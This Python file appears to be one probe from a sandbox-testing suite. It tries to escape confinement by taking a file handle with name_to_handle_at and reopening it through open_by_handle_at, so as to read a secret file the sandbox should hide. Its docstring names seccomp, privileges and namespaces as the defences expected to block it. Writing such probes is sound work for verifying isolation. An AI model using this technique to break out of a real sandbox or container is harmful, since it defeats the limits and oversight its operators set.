"""Files by handle instead of by name.

Tries: name_to_handle_at, then open_by_handle_at on the mount of the working folder.
Escape: the secret comes back.
Held by: seccomp, privileges, namespaces
"""

import ctypes
import os

from certune.sandbox.attacks.kit import aim, attempt, syscall


@attempt("open_by_handle_at")
def by_handle() -> bytes:
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.c_uint32.from_buffer(handle).value = 128
    mount = ctypes.c_int()
    name = aim["open_secret"].encode()
    syscall("name_to_handle_at", -100, name, handle, ctypes.byref(mount), 0)
    folder = os.open("/", os.O_RDONLY)
    fd = syscall("open_by_handle_at", folder, handle, os.O_RDONLY)
    return os.read(fd, 200)


@attempt("name_to_handle_at alone")
def handle_alone() -> str:
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.c_uint32.from_buffer(handle).value = 128
    mount = ctypes.c_int()
    name = aim["open_secret"].encode()
    syscall("name_to_handle_at", -100, name, handle, ctypes.byref(mount), 0)
    return "a handle of a file out of reach"
